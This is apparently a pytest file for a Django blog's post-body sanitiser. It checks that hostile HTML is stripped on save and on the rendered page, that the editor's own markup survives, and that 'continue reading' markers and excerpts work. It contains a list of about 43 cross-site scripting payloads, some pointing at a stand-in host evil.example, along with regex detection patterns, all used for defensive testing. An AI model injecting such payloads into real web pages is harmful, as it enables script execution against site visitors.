"""Post bodies: hostile HTML is stripped on save; what editors write survives."""

import re

import pytest

from posts.models import Post
from posts.richtext import (
    MORE_DIVIDER,
    html_to_text,
    opening_html,
    reading_minutes,
    sanitize_body,
    split_at_more,
)
from tests.factories import PostFactory

pytestmark = pytest.mark.django_db

# Classic cross-site scripting payloads, as an editor could paste them into the HTML view.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=JaVaScRiPt:alert(1)>click</a>",
    "<a href='jav&#x09;ascript:alert(1)'>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>click</a>",
    "<a href='https://example.com' onclick='alert(1)'>click</a>",
    "<a href='https://example.com' target='_blank' rel='opener'>click</a>",
    "<p onmouseover=alert(1)>hover</p>",
    "<p style='background:url(javascript:alert(1))'>styled</p>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q><button>Go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>ok</p><scr<script>ipt>alert(1)</script>",
    "<h2 id=x class=evil data-x=1 onclick=alert(1)>Heading</h2>",
    "<blockquote cite=javascript:alert(1)>quote</blockquote>",
    "<ol start=2 onclick=alert(1)><li>item</li></ol>",
    '"><script>alert(1)</script>',
]

FORBIDDEN = [
    re.compile(
        r"<\s*(script|style|iframe|object|embed|svg|math|img|form|input|meta|link|base)\b", re.I
    ),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"javascript:|vbscript:|data:text", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\starget\s*=", re.I),
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_is_stripped_when_a_post_is_saved(payload):
    post = PostFactory(body=f"<p>Before.</p>{payload}<p>After.</p>")
    post.refresh_from_db()
    for pattern in FORBIDDEN:
        assert not pattern.search(post.body), (pattern.pattern, post.body)
    # The editor's own text before the payload is kept. (What follows an unclosed hostile
    # element may be swallowed with it, which is the safe way to fail.)
    assert post.body.startswith("<p>Before.</p>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_never_reaches_the_post_page(client, payload):
    post = PostFactory(body=payload)
    html = client.get(post.get_absolute_url()).content.decode()
    body = html.split('<div class="post-body">', 1)[1].split("</div>", 1)[0]
    for pattern in FORBIDDEN:
        assert not pattern.search(body), (pattern.pattern, body)


def test_links_keep_their_address_and_get_a_safe_rel():
    cleaned = sanitize_body(
        '<p><a href="https://example.com/a?b=1&amp;c=2" title="T" rel="opener">x</a> '
        '<a href="/p/other/">internal</a> <a href="mailto:desk@example.com">mail</a></p>'
    )
    assert 'href="https://example.com/a?b=1&amp;c=2"' in cleaned
    assert 'href="/p/other/"' in cleaned and 'href="mailto:desk@example.com"' in cleaned
    assert cleaned.count('rel="noopener noreferrer"') == 3
    assert 'opener"' not in cleaned.replace('rel="noopener noreferrer"', "")


def test_what_the_editor_produces_survives_unchanged():
    html = (
        "<h2>Section</h2><h3>Sub</h3><h4>Minor</h4>"
        "<p><strong>b</strong> <em>i</em> <s>s</s> <u>u</u> H<sub>2</sub>O x<sup>2</sup> "
        "<code>code()</code><br>line</p>"
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        "<blockquote><p>quoted</p></blockquote><pre><code>block</code></pre><hr>"
    )
    assert sanitize_body(html) == html


def test_an_empty_editor_means_an_empty_body():
    assert sanitize_body("<p></p>") == ""
    assert sanitize_body("") == ""


def test_sanitising_is_idempotent():
    once = sanitize_body("<p onclick=x>a <a href=https://e.example>b</a></p><script>c</script>")
    assert sanitize_body(once) == once


def test_text_keeps_words_apart_across_blocks():
    text = html_to_text("<h2>Title</h2><p>One&amp;two</p><ul><li>a</li><li>b</li></ul>")
    assert text == "Title\n\nOne&two\n\na\n\nb"


def test_reading_time_rounds_to_minutes_and_is_at_least_one():
    assert reading_minutes("") == 1
    assert reading_minutes("word " * 230 * 4) == 4
    post = PostFactory(body="<p>" + "word " * 1200 + "</p>")
    assert post.reading_minutes == 5


def test_opening_keeps_whole_blocks_and_closes_what_it_cuts():
    body = "".join(f"<p>{'word ' * 40}{n}</p>" for n in range(6))
    opening = opening_html(body)
    assert opening.count("<p>") == 2 and opening.endswith("</p>")
    assert opening_html("<ul><li>a</li><li>b</li></ul><p>next</p>", blocks=1, min_words=0) == (
        "<ul><li>a</li><li>b</li></ul>"
    )


def test_update_fields_saves_derived_fields_with_the_body():
    post = PostFactory(body="<p>short</p>")
    post.body = "<p>" + "longer text " * 400 + "<script>x</script></p>"
    post.save(update_fields=["body"])
    stored = Post.objects.get(pk=post.pk)
    assert "<script>" not in stored.body
    assert stored.reading_minutes == 3 and "longer text" in stored.body_text


@pytest.mark.parametrize(
    "typed",
    [
        "<!--more-->",  # HTML source, an import
        "<!-- more -->",
        "<p><!--more--></p>",
        "<p>&lt;!--more--&gt;</p>",  # typed in the editor: text in a paragraph of its own
        "<p> &lt;!-- More --&gt; </p>",
        "<p>&lt;!–more–&gt;</p>",  # dashes made typographic
        '<hr class="more">',  # the toolbar's divider
        "<!--members-only-->",  # Ghost's paywall, as Ghost's files and our export write it
    ],
)
def test_the_continue_reading_marker_becomes_a_divider_that_survives(typed):
    body = sanitize_body(f"<p>Opening.</p>{typed}<p>The rest.</p>")
    assert body == f"<p>Opening.</p>{MORE_DIVIDER}<p>The rest.</p>"
    assert sanitize_body(body) == body
    assert split_at_more(body) == ("<p>Opening.</p>", "<p>The rest.</p>")


def test_the_marker_written_about_inside_a_sentence_stays_text():
    body = sanitize_body("<p>Type &lt;!--more--&gt; to cut.</p>")
    assert body == "<p>Type &lt;!--more--&gt; to cut.</p>"
    assert split_at_more(body) is None


def test_rules_keep_no_other_class():
    assert sanitize_body('<hr class="more x"><hr class="fancy"><hr>') == (f"{MORE_DIVIDER}<hr><hr>")


def test_the_opening_ends_at_the_divider_however_short():
    post = PostFactory(
        audience=Post.Audience.SUBSCRIBERS,
        body="<p>Just this.</p><!--more--><p>" + "members only " * 100 + "</p>",
    )
    assert post.body_opening == "<p>Just this.</p>"
